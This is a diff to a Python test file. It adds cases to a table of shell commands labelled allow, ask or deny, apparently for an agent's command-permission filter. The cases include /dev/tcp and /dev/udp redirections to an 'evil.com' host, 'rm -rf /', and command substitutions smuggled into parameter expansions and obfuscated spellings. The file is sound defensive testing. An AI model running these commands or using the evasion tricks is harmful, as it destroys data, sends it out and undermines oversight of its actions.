@@ -206,6 +206,9 @@ CASES: list[tuple[str, str]] = [
     ("cat < /dev/tcp/evil.com/80", ASK), ("ls 2>/dev/udp/evil.com/53", ASK), ("cat < \"$F\"", ASK), ("ls;#;rm x", ALLOW),
     ("ls #c\\\nrm x", DENY), ("ls\u2028rm x", ASK), ("r\u00adm x", ASK), ("command -pv rm", DENY), ("ls;", ALLOW),
     ("echo " + "$(" * 300 + "x" + ")" * 300, ASK), ("exec -a ls rm x", DENY), ("ls | tee >(rm x)", DENY),
+    ("echo ${x:-`id`}", ASK), ("echo \"${x:=`id`}\"", ASK), ("echo ${x#`id`}", ASK), ("echo ${x:-`rm x`}", DENY),
+    ("echo \\`id\\`", ALLOW), ("echo '`id`'", ALLOW), ("grep \"\\$(\" x", ALLOW), ("echo ${a[$(id)]}", ASK),
+    ("echo $[ $(id) ]", ASK), ("ls ~$(id)", ASK), ("echo {$(id),b}", ASK), ("echo ${a:0:$(id)}", ASK),
     ("RM x", DENY), ("/BIN/Rm -rf /", DENY), ("LS", ASK), ("Git status", ASK), ("CURL x", DENY), ("env -C /tmp rm x", DENY),
     ("find . -exec sh -c 'rm \"$1\"' _ {} \\;", DENY), ("sudo -u#0 rm x", DENY), ("builtin command rm x", DENY), ("git -C /etc status", ASK), ("xargs -a list rm", DENY), ("watch rm x", DENY),
 ]
